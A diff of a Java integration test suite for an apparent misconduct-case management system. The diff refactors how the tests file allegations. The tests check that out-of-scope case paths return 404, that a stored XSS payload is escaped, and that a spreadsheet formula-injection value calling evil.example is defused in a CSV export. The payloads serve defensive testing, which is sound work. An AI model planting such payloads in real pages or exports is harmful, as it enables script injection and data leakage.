@@ -26,12 +26,10 @@ class OutOfScopeAccessIT extends ClientTest {
     @Test
     void everyPathToAnotherMissionsCaseAnswers404AndIsAuditedOnce() {
         String owner = api.newAccount("idor-co", "CONDUCT_OFFICER", "UNMISS", null);
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject c = api.filed("""
                 {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"SEA","seaType":"SEXUAL_ABUSE","source":"HOTLINE",
                  "summary":"confidential summary","subjects":[{"personnelCategory":"MILITARY_CONTINGENT","nationality":"NPL","sex":"MALE"}],
-                 "victims":[{"sex":"FEMALE","ageGroup":"ADULT","name":"V"}]}""", owner, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        JsonObject c = filed.json();
+                 "victims":[{"sex":"FEMALE","ageGroup":"ADULT","name":"V"}]}""", owner);
         String ref = c.getString("reference");
         long victim = c.getJsonArray("victims").getJsonObject(0).getJsonNumber("id").longValue();
         Api.Response attached = api.postBytes("/api/v1/allegations/" + ref + "/attachments?kind=EVIDENCE&fileName=a.pdf",
@@ -85,14 +83,13 @@ class OutOfScopeAccessIT extends ClientTest {
     void aStoredScriptInASummaryIsShownAsTextAndNeverRuns() {
         String officer = api.newAccount("xss-co", "CONDUCT_OFFICER", "UNMISS", null);
         String payload = "<script>alert('x')</script><img src=x onerror=alert(1)>";
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject filed = api.filed("""
                 {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
                  "source":"EMAIL","summary":"%s","location":"%s"}""".formatted(payload.replace("\"", "\\\""),
-                payload.replace("\"", "\\\"")), officer, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        assertEquals(payload, filed.json().getString("summary"), "the API returns the text as stored, as JSON");
+                payload.replace("\"", "\\\"")), officer);
+        assertEquals(payload, filed.getString("summary"), "the API returns the text as stored, as JSON");
         String page = WebSession.signIn(api.base(), officer, PASSWORD)
-                .get("/allegation/view.xhtml?ref=" + filed.json().getString("reference")).body();
+                .get("/allegation/view.xhtml?ref=" + filed.getString("reference")).body();
         assertFalse(page.contains("<script>alert('x')</script>"), "no raw script in the page");
         assertFalse(page.contains("<img src=x onerror"), "no raw markup in the page");
         assertTrue(page.contains("&lt;script&gt;alert("), "the summary is escaped text");
@@ -102,12 +99,10 @@ class OutOfScopeAccessIT extends ClientTest {
     void aFormulaInASummaryIsDefusedInTheCsvExportWhichIsScopedAndAudited() {
         String officer = api.newAccount("csv-co", "CONDUCT_OFFICER", "UNAMID", null);
         String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject filed = api.filed("""
                 {"mission":"UNAMID","receivedOn":"2019-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
-                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)),
-                officer, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        String ref = filed.json().getString("reference");
+                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)), officer);
+        String ref = filed.getString("reference");
         Api.Response csv = api.get("/api/v1/allegations/export?mission=UNAMID", officer, PASSWORD);
         assertEquals(200, csv.status(), csv.body());
         assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
